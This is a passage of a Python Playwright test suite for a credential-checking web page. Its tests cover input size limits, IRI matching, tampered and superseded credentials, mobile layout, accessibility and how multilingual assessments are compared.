    Badge's outcomes in its criteria, …) is refused with a clear message, not cut short nor laid
    out: 80,000 made-up awarding bodies (4.8 MB) took ten seconds to lay out. A list of 1,000 is
    still read and compared, whole."""
    said = ui_strings("en")["check"]
    too_many = str(said["error_too_many_items"]).format(n=1000)

    def with_bodies(count: int) -> str:
        many = json.loads(json.dumps(issued))
        many["credentialSubject"]["hasClaim"]["awardedBy"]["awardingBody"] = [
            {"id": f"urn:org:{i}", "legalName": {"en": f"Mill {i}"}} for i in range(count)
        ]
        return json.dumps(many)

    open_check(page, sample_site)
    bodies = with_bodies(80_000)
    assert 4_500_000 < len(bodies) < 5 * 1024 * 1024
    paste(page, bodies)
    assert verdict(page) == "error", output_text(page)
    expect(page.locator(".credcat-check__message")).to_have_text(too_many)
    paste(page, with_bodies(1001))
    expect(page.locator(".credcat-check__message")).to_have_text(too_many)
    outcomes = json.loads(json.dumps(issued))
    listed = next(
        node for node in _nodes(outcomes) if isinstance(node.get("learningOutcome"), list)
    )
    listed["learningOutcome"] = [
        {"id": f"urn:outcome:{i}", "title": {"en": f"Outcome {i}"}} for i in range(1001)
    ]
    paste(page, json.dumps(outcomes))
    expect(page.locator(".credcat-check__message")).to_have_text(too_many)

    # claims nested in claims (hasPart), each list short, 1,203 claims in all: refused, not
    # read up to the 1,000th and the rest left out without a word
    nested = json.loads(json.dumps(issued))
    nested["credentialSubject"]["hasClaim"]["hasPart"] = [
        {"hasPart": [{"title": {"en": f"Part {i}.{j}"}} for j in range(600)]} for i in range(2)
    ]
    paste(page, json.dumps(nested))
    assert verdict(page) == "error", output_text(page)
    expect(page.locator(".credcat-check__message")).to_have_text(too_many)

    paste(page, with_bodies(1000))  # as many as a credential may list: compared
    assert verdict(page) == "differences", output_text(page)
    expect(page.locator('[data-credcat-row="awarding"]')).to_have_attribute(
        "data-credcat-result", "differs"
    )

    # an Open Badge's outcomes and assessments, lists its criteria's narrative writes: the
    # same bound (the page read a list of more than 200 as not stated, and called such a badge
    # the same as far as it states)
    def with_narrative(outcomes: int, assessments: int) -> str:
        badge = fx.ob3_credential(sample_site.root, CID, VERSION)
        criteria = badge["credentialSubject"]["achievement"]["criteria"]
        head, _sep, rest = criteria["narrative"].partition("1. ")
        numbered = "\n".join(f"{i}. Outcome {i}" for i in range(1, outcomes + 1))
        rest = rest[rest.index("\n\n") :]
        bullets = "\n".join(
            f"- **Test {i}** (written examination; unsupervised; without identity verification;"
            f" proves outcomes 1): Test {i}."
            for i in range(assessments)
        )
        if assessments:
            rest = rest[: rest.index("\n- **") + 1] + bullets
        criteria["narrative"] = head + numbered + rest
        return json.dumps(badge)

    paste(page, with_narrative(5, 1001))
    expect(page.locator(".credcat-check__message")).to_have_text(too_many)
    # "1000. …" is an outcome of its own (it was read as the end of the 999th, so that 1,001
    # outcomes were read as 999 and compared)
    paste(page, with_narrative(1001, 0))
    expect(page.locator(".credcat-check__message")).to_have_text(too_many)
    paste(page, with_narrative(1000, 1000))  # as many as a narrative may number: compared
    assert verdict(page) == "differences", output_text(page)
    for row in ("outcomes", "assessment"):
        expect(page.locator(f'[data-credcat-row="{row}"]')).to_have_attribute(
            "data-credcat-result", "differs"
        )


def _nodes(value: Any) -> list[dict[str, Any]]:
    """Every mapping in a JSON value, depth first."""
    found: list[dict[str, Any]] = []
    stack = [value]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            found.append(node)
            stack.extend(node.values())
        elif isinstance(node, list):
            stack.extend(node)
    return found


def test_the_logic_unit_by_unit(page: Page, sample_site: Site, issued: dict[str, Any]):
    """read and locate, called directly on the built page."""
    open_check(page, sample_site)
    base = "https://credentials.digital-skills-alliance.eu/"
    located = page.evaluate(
        "iris => iris.map(iri => window.credcatCheck.locate(iri))",
        [
            base + "credentials/sql-for-data-analysis/1.0/#spec",
            base + "credentials/sql-for-data-analysis/1.0/ob3-achievement.json",
            base + "credentials/sql-for-data-analysis/../../x/#spec",
            base + "organisations/hochschule-rheinau/#org",
            "https://evil.example/credentials/sql-for-data-analysis/1.0/#spec",
            "urn:epass:qualification:1",
        ],
    )
    assert located[0] == {"id": CID, "version": "1.0", "file": ""}
    assert located[1] == {"id": CID, "version": "1.0", "file": "ob3-achievement.json"}
    assert located[2:] == [None, None, None, None]

    read = page.evaluate("text => window.credcatCheck.read(text)", fx.jws_compact(fx.vc2(issued)))
    assert (read["kind"], read["form"], read["vc"]) == ("edc", "jws_compact", "vc2")
    claimed = read["claims"][0]["claimed"]
    assert read["claims"][0]["iris"] == [base + f"credentials/{CID}/{VERSION}/#spec"]
    assert (claimed["eqf"], claimed["credits"], claimed["hours"]) == (6, 4, 110)
    assert claimed["title"]["en"] == "SQL for Data Analysis"
    assert len(claimed["outcomes"]) == len(sample_site.catalogue.credentials[CID].outcomes)

    signed = json.loads((SAMPLES / "Sample-MC-Annex1-signed.jsonld").read_text(encoding="utf-8"))
    read = page.evaluate("text => window.credcatCheck.read(text)", json.dumps(signed))
    assert (read["kind"], read["form"], read["vc"]) == ("edc", "jws_json", "vc1")
    assert read["claims"][0]["iris"] == ["urn:epass:qualification:1"]
    assert read["claims"][0]["claimed"]["eqf"] == 6


def test_axe_empty_and_matched(page: Page, sample_site: Site, issued: dict[str, Any]):
    open_check(page, sample_site)
    assert_no_axe_violations(page, "check page, empty")
    paste(page, json.dumps(issued))
    assert_no_axe_violations(page, "check page, matched")


@pytest.mark.parametrize("lang", ["de", "fr"])
def test_the_check_page_compares_in_every_language(
    page: Page, sample_site: Site, issued: dict[str, Any], lang: str
):
    """The machine files are published once, at the site root: a language's check page reads
    them there (it once asked for /de/credentials/…/elm.jsonld, which does not exist; the page
    fixture fails on any failed request)."""
    page.goto(sample_site.url(f"{lang}/check/"))
    expect(page.locator("#credcat-check-form")).to_be_visible()
    paste(page, json.dumps(issued))
    assert verdict(page) == "match", output_text(page)
    assert row_results(page) == dict.fromkeys(ROWS, "same")
    assert page.locator("html").get_attribute("lang") == lang
    # the credential's titles in the other languages say which (a German voice read them)
    title = page.locator('[data-credcat-row="title"] td').first
    marked = title.locator("[lang]")
    assert marked.count() >= 1
    langs = {marked.nth(i).get_attribute("lang") for i in range(marked.count())}
    assert lang not in langs and langs <= {"en", "de", "fr"}, langs
    title_of = sample_site.catalogue.credentials[CID].title  # the titles it was issued with
    for i in range(marked.count()):
        item = marked.nth(i)
        assert item.inner_text() == title_of[item.get_attribute("lang") or ""]


def test_a_match_needs_the_named_specification_and_something_to_compare(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """Only the specification a claim names is matched; a credential that names one and states
    nothing of it, or the published template, is never called a match."""
    base = "https://credentials.digital-skills-alliance.eu/"
    open_check(page, sample_site)
    foreign = json.loads(json.dumps(issued))
    spec = foreign["credentialSubject"]["hasClaim"]["specifiedBy"]
    spec["id"] = "https://elsewhere.example/spec/1"
    spec["isPartOf"] = base + "credentials/applied-data-analytics/1.0/#spec"
    paste(page, json.dumps(foreign))
    assert verdict(page) == "not-ours", output_text(page)

    bare = {
        "credentialSubject": {
            "achievement": {"id": base + f"credentials/{CID}/{VERSION}/ob3-achievement.json"}
        }
    }
    paste(page, json.dumps(bare))
    assert verdict(page) == "unstated", output_text(page)
    assert "there is nothing to compare" in output_text(page)
    assert "matches" not in output_text(page)

    paste(page, json.dumps(fx.template(sample_site.root, CID, VERSION)))
    assert verdict(page) == "template", output_text(page)
    assert "not a credential issued to a person" in output_text(page)


def test_pasted_text_replaces_a_chosen_file(page: Page, sample_site: Site, issued: dict[str, Any]):
    open_check(page, sample_site)
    page.set_input_files(
        "#credcat-check-file",
        files=[
            {
                "name": "other.json",
                "mimeType": "application/json",
                "buffer": json.dumps(fx.with_version(issued, "9.9")).encode(),
            }
        ],
    )
    expect(page.locator("#credcat-check-output")).to_have_attribute(
        "data-credcat-verdict", "no-version"
    )
    box = page.locator("#credcat-check-text")
    box.evaluate(
        "(el, text) => { el.value = text; el.dispatchEvent(new Event('input')); }",
        json.dumps(issued),
    )
    page.locator("#credcat-check-submit").click()
    expect(page.locator("#credcat-check-output")).to_have_attribute("data-credcat-verdict", "match")


def test_the_result_on_a_phone_is_in_sight_without_scrolling(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """At 375 px each aspect of the comparison is a block: its name, then what the credential
    says, what the catalogue says and the result, each under its column's name, all within
    the screen's width (the results' column had been out of sight, behind a sideways
    scroll). Screen readers still read a table (its roles). At 1280 px it is a table of four
    columns; nothing to scroll at either width, so no hint."""
    page.set_viewport_size({"width": 375, "height": 800})
    open_check(page, sample_site)
    paste(page, json.dumps(fx.jades_json(fx.tampered(issued))))
    table = page.get_by_role("table", name="What the credential claims, and what the catalogue")
    expect(table).to_be_visible()
    region = page.get_by_role("region", name="What the credential claims, and what the catalogue")
    assert region.evaluate("el => el.scrollWidth <= el.clientWidth + 1")
    expect(page.locator("#credcat-check-output .credcat-scroll-hint")).to_be_hidden()
    differs = page.locator(".credcat-check__row--differs").first
    result = differs.locator("td").last
    expect(result).to_be_visible()
    box = result.bounding_box()
    assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= 375, box
    labels = differs.locator("td").evaluate_all(
        "cells => cells.map(c => getComputedStyle(c, '::before').content)"
    )
    assert labels == ['"The credential says"', '"The catalogue published"', '"Result"'], labels
    assert table.get_by_role("row").count() == page.locator(".credcat-check__table tr").count()
    # the aspects and results keep their words whole
    headers = ".credcat-check__table tbody th, .credcat-check__table td:last-child"
    assert words_split_across_lines(page, headers) == []
    # every cell, the numbered outcomes and the quality assurance with them, within the screen
    edges = page.locator(".credcat-check__table :is(td, li)").evaluate_all(
        "els => els.map(e => e.getBoundingClientRect()).map(r => [r.left, r.right])"
    )
    assert all(left >= 0 and right <= 375 for left, right in edges), edges
    expect(page.locator('[data-credcat-row="quality"] td').last).to_be_visible()
    assert_no_axe_violations(page, "check page with differences, 375 px")
    page.set_viewport_size({"width": 1280, "height": 800})
    paste(page, json.dumps(fx.jades_json(fx.tampered(issued))))
    assert page.locator(".credcat-check__table").evaluate("t => getComputedStyle(t).display") == (
        "table"
    )
    expect(page.locator("#credcat-check-output .credcat-scroll-hint")).to_be_hidden()


def test_on_a_phone_each_result_comes_first_and_same_rows_are_folded(
    page: Page, sample_site: Site, issued: dict[str, Any], screenshot_dir: Path
):
    """At 375 px each row shows its result first, above what the credential and the catalogue
    say (the outcomes' "Differs" had been several screens down, under both full lists of every
    row above it); a row the same on both sides is folded to its result, and its button (24 px
    at least, aria-expanded) shows both lists. At 1280 px and on paper nothing is folded and
    the result is the last column. axe is clean at both widths."""
    from .test_credential_page import TARGETS

    said = open_check_in(page, sample_site, "")
    changed = json.loads(json.dumps(issued))
    outcome = changed["credentialSubject"]["hasClaim"]["specifiedBy"]["learningOutcome"][0]
    outcome["title"] = {"en": "Can build a rocket engine from scratch."}
    page.set_viewport_size({"width": 375, "height": 800})
    paste(page, json.dumps(changed))
    assert verdict(page) == "differences"
    rows = page.locator("[data-credcat-row]")
    results = row_results(page)
    assert results["outcomes"] == "differs" and "same" in results.values(), results

    def top(locator: Any) -> float:
        box = locator.bounding_box()
        assert box is not None
        return float(box["y"])

    for field, result in results.items():
        row = page.locator(f'[data-credcat-row="{field}"]')
        cells = row.locator("td")
        outcome_cell = cells.last
        expect(outcome_cell).to_be_visible()
        fold = row.locator("button.credcat-check__fold")
        if result == "same":
            expect(row.locator("td").first).to_be_hidden()
            expect(row.locator("td").nth(1)).to_be_hidden()
            expect(fold).to_have_text(str(said["fold_toggle"]))
            expect(fold).to_have_attribute("aria-expanded", "false")
        else:
            expect(fold).to_have_count(0)
            assert top(outcome_cell) < top(cells.first) < top(cells.nth(1)), field
    # the outcomes' result within a screen of the table's top, however long the lists above
    below = top(page.locator('[data-credcat-row="outcomes"] td').last) - top(rows.first)
    height = page.evaluate("() => document.documentElement.scrollHeight")
    print(f"375 px: the outcomes' result {below:.0f} px below the first row; page {height} px")
    assert below < 800, below
    # a folded row unfolds: its result still first
    title = page.locator('[data-credcat-row="title"]')
    title.locator("button.credcat-check__fold").click()
    expect(title.locator("button.credcat-check__fold")).to_have_attribute("aria-expanded", "true")
    expect(title.locator("td").first).to_be_visible()
    assert top(title.locator("td").last) < top(title.locator("td").first)
    assert page.evaluate(TARGETS) == []
    page.screenshot(path=str(screenshot_dir / "check-375-folded.png"), full_page=True)
    assert_no_axe_violations(page, "check page with differences, folded, 375 px")
    # on paper, and on a wider screen: nothing folded, no button, the result last
    for media, width in (("print", 375), ("screen", 1280)):
        page.set_viewport_size({"width": width, "height": 800})
        page.emulate_media(media=media)  # type: ignore[arg-type]
        expect(page.locator("button.credcat-check__fold:visible")).to_have_count(0)
        assert rows.locator("td").evaluate_all("cells => cells.every(c => c.checkVisibility())")
        outcomes = page.locator('[data-credcat-row="outcomes"] td')
        assert top(outcomes.last) == top(outcomes.first), media
    page.emulate_media(media="screen")
    assert_no_axe_violations(page, "check page with differences, 1280 px")


def test_a_credential_that_claims_more_than_one_says_so(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """The page compares one claim; a credential claiming two specifications of this
    catalogue is compared on its first, and the page says how many more there are instead
    of dropping them without a word."""
    two = json.loads(json.dumps(issued))
    claim = two["credentialSubject"]["hasClaim"]
    other = json.loads(json.dumps(claim))
    base = "https://credentials.digital-skills-alliance.eu/credentials/"
    other["specifiedBy"]["id"] = base + "data-visualisation/1.1/#spec"
    two["credentialSubject"]["hasClaim"] = [claim, other]
    open_check(page, sample_site)
    paste(page, json.dumps(two))
    assert verdict(page) == "match", output_text(page)
    expect(page.locator(".credcat-check__others")).to_have_text(
        "Other credentials of this catalogue that it claims: 1. This page compares the first; "
        "the catalogue page of each shows what it means."
    )
    paste(page, json.dumps(issued))
    expect(page.locator(".credcat-check__others")).to_have_count(0)


def test_a_file_the_catalogue_publishes_is_named_as_no_credential(page: Page, sample_site: Site):
    """An employer may drop the version's own files (its specification, its Open Badges
    achievement, the catalogue's graph): the page says what they are and what to ask for."""
    said = ui_strings("en")["check"]["error_specification"]
    version = sample_site.root / "credentials" / "data-analysis-python" / "1.2"
    for path in (
        version / "elm.jsonld",
        version / "ob3-achievement.json",
        sample_site.root / "catalogue.jsonld",
    ):
        open_check(page, sample_site)
        paste(page, path.read_text("utf-8"))
        assert verdict(page) == "error", path.name
        assert said in output_text(page), path.name


def test_a_credential_of_hours_has_no_credits_row(
    page: Page, tmp_path_factory: pytest.TempPathFactory
):
    """A vocational credential states hours, not ECTS, in the catalogue and in what its holder
    is issued: the comparison leaves out the credits row ("Not stated / — / —" says nothing);
    a workload stated on one side only still has its row."""
    from tests.catalogue_factory import credential

    summary = "Drive a forklift safely."
    credentials = {
        "forklift": credential(
            title={"en": "Forklift safety", "de": "Staplersicherheit"},
            summary={"en": summary, "de": summary},
            workload={"hours": 40},
        )
    }
    for site in small_site(tmp_path_factory, "check-hours", credentials):
        issued = fx.issued_edc(site.root, "forklift", "1.0")
        open_check(page, site)
        paste(page, json.dumps(issued))
        assert verdict(page) == "match", output_text(page)
        rows = page.locator("[data-credcat-row]")
        fields = [rows.nth(n).get_attribute("data-credcat-row") for n in range(rows.count())]
        assert fields == [row for row in ROWS if row != "credits"]  # hours only: no credits row
        expect(page.locator('[data-credcat-row="workload"]')).to_have_attribute(
            "data-credcat-result", "same"
        )
        expect(page.locator('[data-credcat-row="workload"]')).to_contain_text("40")

        # the hours left out of the credential: the row stays, saying so
        spec = issued["credentialSubject"]["hasClaim"]["specifiedBy"]
        spec.pop("volumeOfLearning")
        paste(page, json.dumps(issued))
        assert verdict(page) == "partial", output_text(page)
        expect(page.locator(".credcat-check__unstated-fields")).to_have_text(
            "Not stated in the credential: Workload. The table shows what the catalogue "
            "published for them."
        )
        expect(page.locator("[data-credcat-row]")).to_have_count(8)
        expect(page.locator('[data-credcat-row="workload"]')).to_have_attribute(
            "data-credcat-result", "unstated"
        )
        expect(page.locator('[data-credcat-row="credits"]')).to_have_count(0)
        page.goto("about:blank")  # leave the site before its server stops


def test_a_drafts_version_is_named_a_draft_not_compared(
    page: Page, tmp_path_factory: pytest.TempPathFactory
):
    """A draft's version that is not released has no permanent page and no file to compare
    with (``catalogue.json`` lists no version of it): a credential naming it is told so, as a
    draft that no credential can refer to yet; another version of the draft is unknown."""
    from tests.catalogue_factory import credential

    def titled(en: str, de: str, **changes: Any) -> dict[str, Any]:
        summary = f"Learn {en.lower()}."
        return credential(
            title={"en": en, "de": de}, summary={"en": summary, "de": summary}, **changes
        )

    credentials = {
        "forklift": titled("Forklift safety", "Staplersicherheit"),
        "crane": titled("Crane operation", "Kranführung", status="draft"),
    }
    for site in small_site(tmp_path_factory, "check-draft", credentials):
        assert not (site.root / "credentials" / "crane" / "1.0").exists()
        issued = fx.issued_edc(site.root, "forklift", "1.0")
        spec = issued["credentialSubject"]["hasClaim"]["specifiedBy"]
        spec["id"] = spec["id"].replace("/credentials/forklift/", "/credentials/crane/")
        open_check(page, site)
        paste(page, json.dumps(issued))
        assert verdict(page) == "no-version", output_text(page)
        assert (
            "Version 1.0 of “Crane operation” is a draft in this catalogue: it is not released, "
            "so no credential can refer to it yet."
        ) in output_text(page)
        expect(page.locator(".credcat-check__status")).to_have_count(0)  # no page to link
        expect(page.locator(".credcat-check__known")).to_have_count(0)
        paste(page, json.dumps(fx.with_version(issued, "9.9")))
        assert verdict(page) == "no-version"
        assert "This catalogue has no version 9.9 of “Crane operation”." in output_text(page)
        page.goto("about:blank")  # leave the site before its server stops


def open_check_in(page: Page, site: Site, lang: str) -> dict[str, Any]:
    """Open the check page in ``lang`` ("" or "de/"); credcat's words in that language."""
    page.goto(site.url(f"{lang}check/"))
    expect(page.locator("#credcat-check-form")).to_be_visible()
    said: dict[str, Any] = ui_strings(lang.rstrip("/") or "en")["check"]
    return said


@pytest.mark.parametrize(("lang", "hours"), [("", "1500 hours"), ("fr/", "1500 heures")])
def test_numbers_are_written_as_the_pages_write_them(
    page: Page, sample_site: Site, issued: dict[str, Any], lang: str, hours: str
) -> None:
    """A workload of 1,500 hours claimed reads as the pages write a number, without digit
    groups ("1500 hours", Localiser.number, catalogue.js): the check page grouped them as the
    browser's locale does, "1,500 hours" here, "1 500 heures" in French, and "1.500 horas" on
    a Portuguese page, as Brazil writes it (Portugal writes 1500)."""
    claimed = copy.deepcopy(issued)
    claimed["credentialSubject"]["hasClaim"]["specifiedBy"]["volumeOfLearning"] = "PT1500H"
    said = open_check_in(page, sample_site, lang)
    paste(page, json.dumps(claimed))
    row = page.locator('[data-credcat-row="workload"]')
    expect(row).to_have_attribute("data-credcat-result", "differs")
    assert said["hours"].replace("{n}", "1500") == hours
    expect(row).to_contain_text(hours)
    assert "1,500" not in row.inner_text() and "1\u202f500" not in row.inner_text()


@pytest.mark.parametrize("lang", ["", "de/"])
def test_the_result_links_the_versions_summary_for_employers(
    page: Page, sample_site: Site, lang: str
):
    """The result links the version's one-page summary for employers (what it certifies and
    how it is assessed, on one page to keep), in the page's language."""
    said = open_check_in(page, sample_site, lang)
    paste(page, json.dumps(fx.issued_edc(sample_site.root, CID, VERSION)))
    summary = page.get_by_role(
        "link", name=str(said["link_summary"]).format(version=VERSION), exact=True
    )
    target = sample_site.url(f"{lang}credentials/{CID}/{VERSION}/summary/")
    assert summary.evaluate("a => a.href") == target
    summary.click()
    expect(page.locator("html")).to_have_attribute("lang", lang.rstrip("/") or "en")
    assert page.url == target


@pytest.mark.parametrize("lang", ["", "de/"])
def test_a_superseded_credential_names_its_successor(page: Page, sample_site: Site, lang: str):
    """Not only a link "the credential that replaces it": the status says which one."""
    said = open_check_in(page, sample_site, lang)
    credentials = sample_site.catalogue.credentials
    old = "research-data-management"
    successor = credentials[credentials[old].superseded_by or ""]
    paste(page, json.dumps(fx.issued_edc(sample_site.root, old, credentials[old].version)))
    title = successor.title[lang.rstrip("/") or "en"]
    line = str(said["status_superseded_by"]).format(title=title)
    expect(page.locator(".credcat-check__status")).to_contain_text(line)
    assert "“" + title + "”" in line or "„" + title + "“" in line


@pytest.mark.parametrize("lang", ["", "de/"])
def test_a_version_that_does_not_exist_lists_those_that_do(
    page: Page, sample_site: Site, lang: str
):
    """ "No version 9.9" alone leaves the employer stuck: the versions the catalogue has, the
    current one, and the credential's page follow."""
    said = open_check_in(page, sample_site, lang)
    paste(page, json.dumps(fx.with_version(fx.issued_edc(sample_site.root, CID, VERSION), "9.9")))
    assert verdict(page) == "no-version"
    known = page.locator(".credcat-check__known")
    versions = str(said["known_versions"]).format(versions="1.0, 1.1", current=VERSION)
    expect(known).to_contain_text(versions)
    to_page = known.get_by_role("link", name=str(said["link_credential"]))
    assert to_page.evaluate("a => a.href") == sample_site.url(f"{lang}credentials/{CID}/")
    assert_no_axe_violations(page, f"check page, no such version ({lang or 'en'})")


def test_a_changed_title_is_named_among_the_titles_it_states(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """An EDC states its titles twice (the claim's and its specification's) in every language:
    a copy whose specification's titles were changed lists six titles, three of them as
    published. The row says which ones the catalogue did not publish, as the outcomes row does;
    the titles as published get no note."""
    open_check(page, sample_site)
    paste(page, json.dumps(fx.tampered(issued)))
    row = page.locator('[data-credcat-row="title"]')
    expect(row).to_have_attribute("data-credcat-result", "differs")
    notes = row.locator("td").last.locator("li")
    published = sample_site.catalogue.credentials[CID].title
    expected = [
        f"Not a title the catalogue published: {text} (Advanced)"
        for _, text in sorted(published.items())
    ]
    expect(notes).to_have_text(expected)
    for lang, text in sorted(published.items()):
        assert notes.locator(f'span[lang="{lang}"]', has_text=text).count() == int(lang != "en")
    paste(page, json.dumps(issued))
    expect(page.locator('[data-credcat-row="title"] li')).to_have_count(3)  # the titles alone


def test_an_open_badges_title_says_its_language(page: Page, sample_site: Site):
    """An Open Badges achievement states its name as a plain string and its language in
    ``inLanguage``: on the German page the English badge's title is marked as English (WCAG
    2.1, 3.1.2), and the German badge's title, compared with the German title, is not. The
    awarding body's plain name, the same in every edition (the catalogue's default
    language's), is marked with the language the catalogue publishes that name in."""
    cat = sample_site.catalogue
    body = cat.organisations[cat.credentials[CID].awarding_body[0]]
    default = cat.settings.default_language
    assert body.name[default] != body.name["de"]
    page.goto(sample_site.url("de/check/"))
    expect(page.locator("#credcat-check-form")).to_be_visible()
    english = fx.ob3_credential(sample_site.root, CID, VERSION)
    paste(page, json.dumps(english))
    assert verdict(page) == "match", output_text(page)  # all a badge can state
    cell = page.locator('[data-credcat-row="title"] td').first
    expect(cell).to_have_text("SQL for Data Analysis")
    expect(cell).to_have_attribute("lang", "en")
    awarding = page.locator('[data-credcat-row="awarding"] td').first
    expect(awarding).to_have_text(body.name[default])
    expect(awarding).to_have_attribute("lang", default)

    german = json.loads(json.dumps(english))
    path = sample_site.root / "credentials" / CID / VERSION / "ob3-achievement.de.json"
    achievement = json.loads(path.read_text(encoding="utf-8"))
    achievement.pop("@context", None)
    german["credentialSubject"]["achievement"] = achievement
    german["name"] = achievement["name"]
    paste(page, json.dumps(german))
    assert verdict(page) == "match", output_text(page)
    expect(cell).to_have_text("SQL für die Datenanalyse")
    assert cell.get_attribute("lang") is None
    expect(awarding).to_have_text(body.name[default])
    expect(awarding).to_have_attribute("lang", default)


# --- how it was assessed ----------------------------------------------------------------------


def claim_of(credential: dict[str, Any]) -> dict[str, Any]:
    claim: dict[str, Any] = credential["credentialSubject"]["hasClaim"]
    return claim


def assessment_lines(page: Page, column: int) -> list[str]:
    """The assessments the row "How it was assessed" lists in a column (0: the credential's,
    1: the catalogue's)."""
    cell = page.locator('[data-credcat-row="assessment"] td').nth(column)
    return [re.sub(r"[ \n]+", " ", t).strip() for t in cell.locator("li").all_inner_texts()]


@pytest.mark.parametrize("lang", ["", "de/", "fr/"])
def test_the_comparison_says_how_it_was_assessed(
    page: Page, sample_site: Site, issued: dict[str, Any], lang: str
):
    """Each assessment the version publishes, with its type, how it is supervised and the
    identity checked, and its grading, in the page's words (as the employers' summary says
    them); the credential's beside it, with the holder's grade; the same on both sides."""
    said = open_check_in(page, sample_site, lang)
    paste(page, json.dumps(issued))
    assert verdict(page) == "match", output_text(page)
    row = page.locator('[data-credcat-row="assessment"]')
    expect(row).to_have_attribute("data-credcat-result", "same")
    expect(row.locator("th")).to_have_text(str(said["field_assessment"]))
    code = lang.rstrip("/") or "en"
    ui = ui_strings(code)
    cred = sample_site.catalogue.credentials[CID]
    published = assessment_lines(page, 1)
    claimed = assessment_lines(page, 0)
    assert len(published) == len(claimed) == len(cred.assessments) == 2
    for n, (assessment, line) in enumerate(zip(cred.assessments, published, strict=True)):
        assert assessment.title is not None and assessment.grading is not None
        supervision = str(ui["employers_supervision"][assessment.supervision or "none"])
        identity = str(
            ui["employers_identity_yes" if assessment.identity_check else "employers_identity_no"]
        )
        verification = str(said["verification"]).format(supervision=supervision, identity=identity)
        assert line.startswith(assessment.title[code]), line
        assert verification in line, (verification, line)
        grading = str(said["grading_value"]).format(text=assessment.grading[code])
        assert grading in line, line
        # the credential's line: the same, and the holder's grade, which the catalogue has not
        grade = str(said["grade_value"]).format(grade=fx.GRADES[n])
        assert claimed[n] == f"{line} · {grade}", (claimed[n], line)
        assert str(said["grade_value"]).split("{")[0] not in line
    # the type in the page's words, whatever language the files label it in
    practical = {
        "": "Practical assessment",
        "de/": "Praktische Beurteilung",
        "fr/": "Évaluation pratique",
    }
    assert practical[lang] in published[0]
    # the catalogue's texts in another language than credcat's words say which
    if code != "en":
        grade_part = page.locator('[data-credcat-row="assessment"] td').first.locator(
            'span[lang="en"]', has_text="Pass"
        )
        expect(grade_part).to_have_count(1)
    assert_no_axe_violations(page, f"check page, assessment compared ({lang or 'en'})")


def test_an_assessment_supervised_otherwise_differs(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """A copy whose supervised exam with identity check claims to be unsupervised, or whose
    exam is of another type, differs; the note names the assessment and what differs."""
    changed = json.loads(json.dumps(issued))
    taken = claim_of(changed)["provenBy"]
    assert "supervision-supervised-on-site-id-check" in taken[0]["idVerification"]["id"]
    taken[0]["idVerification"] = json.loads(json.dumps(taken[1]["idVerification"]))
    open_check(page, sample_site)
    paste(page, json.dumps(changed))
    assert verdict(page) == "differences", output_text(page)
    row = page.locator('[data-credcat-row="assessment"]')
    expect(row).to_have_attribute("data-credcat-result", "differs")
    title = "Practical SQL exam in the computer lab"
    expect(row.locator("td").last).to_contain_text(
        f"Differs for {title}: supervision and identity check"
    )
    assert "not supervised, identity not verified" in assessment_lines(page, 0)[0]
    assert "supervised on site, identity verified" in assessment_lines(page, 1)[0]

    written = "http://data.europa.eu/snb/assessment/" + "9f5e3a2b1c"  # another type
    taken[0]["specifiedBy"]["dcType"] = {
        "id": written,
        "type": "Concept",
        "prefLabel": {"en": "oral examination (made up)"},
    }
    paste(page, json.dumps(changed))
    expect(row.locator("td").last).to_contain_text(
        f"Differs for {title}: type of assessment, supervision and identity check"
    )
    assert "oral examination (made up)" in assessment_lines(page, 0)[0]


def test_an_assessment_left_out_or_added_differs(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """As with outcomes: an assessment the catalogue published and the credential leaves out,
    or one the catalogue did not publish, makes the row differ and is named."""
    fewer = json.loads(json.dumps(issued))
    claim_of(fewer)["provenBy"].pop(1)
    claim_of(fewer)["specifiedBy"]["provenBy"].pop(1)
    open_check(page, sample_site)
    paste(page, json.dumps(fewer))
    assert verdict(page) == "differences", output_text(page)
    result = page.locator('[data-credcat-row="assessment"] td').last
    expect(result).to_contain_text("Not in the credential: Database review assignment")

    more = json.loads(json.dumps(issued))
    extra = json.loads(json.dumps(claim_of(more)["provenBy"][1]))
    extra["specifiedBy"]["id"] = "urn:epass:learningAssessmentSpec:99"
    extra["title"] = extra["specifiedBy"]["title"] = {"en": "Attendance"}
    claim_of(more)["provenBy"].append(extra)
    paste(page, json.dumps(more))
    assert verdict(page) == "differences", output_text(page)
    expect(result).to_contain_text("Not published by the catalogue: Attendance: Marked assignment")


def test_a_translation_the_catalogue_lacks_does_not_unpair_assessments(
    page: Page, sample_site: Site
):
    """The content of version 1.2 labelled as 1.1, where all that differs is the French texts
    1.2 added: each assessment is paired with the catalogue's (it had been listed twice, "Not
    published by the catalogue" and "Not in the credential") and said to differ in the texts
    it states in French, which the catalogue did not publish for 1.1 ("title (French)"); the
    status still says that version 1.2 is assessed the same."""
    said = open_check_in(page, sample_site, "")
    cid = "data-analysis-python"
    newer, older = "1.2", "1.1"
    credential = fx.with_version(fx.issued_edc(sample_site.root, cid, newer), older)
    paste(page, json.dumps(credential))
    assert verdict(page) == "differences", output_text(page)
    row = page.locator('[data-credcat-row="assessment"]')
    expect(row).to_have_attribute("data-credcat-result", "differs")
    notes = [re.sub(r"\s+", " ", t) for t in row.locator("td").last.locator("li").all_inner_texts()]
    for key in ("outcome_extra", "outcome_missing"):
        prefix = str(said[key]).split("{text}")[0]
        assert not any(n.startswith(prefix) for n in notes), notes

    def spec(version: str) -> list[dict[str, Any]]:
        path = sample_site.root / "credentials" / cid / version / "elm.jsonld"
        found: list[dict[str, Any]] = json.loads(path.read_text(encoding="utf-8"))["provenBy"]
        return found

    english = Locale.parse("en").languages
    for mine, theirs in zip(spec(newer), spec(older), strict=True):
        aspects = {
            "aspect_title": (mine["title"], theirs["title"]),
            "aspect_grading": (
                mine["gradingScheme"]["description"],
                theirs["gradingScheme"]["description"],
            ),
            "aspect_description": (mine["description"], theirs["description"]),
        }
        expected = [
            str(said["aspect_in_languages"]).format(
                aspect=said[aspect],
                languages=", ".join(english[lang] for lang in sorted(set(a) - set(b))),
            )
            for aspect, (a, b) in aspects.items()
            if set(a) - set(b)
        ]
        assert expected, "1.2 added a translation of this assessment"
        note = next(n for n in notes if theirs["title"]["en"] in n)
        assert note.startswith(
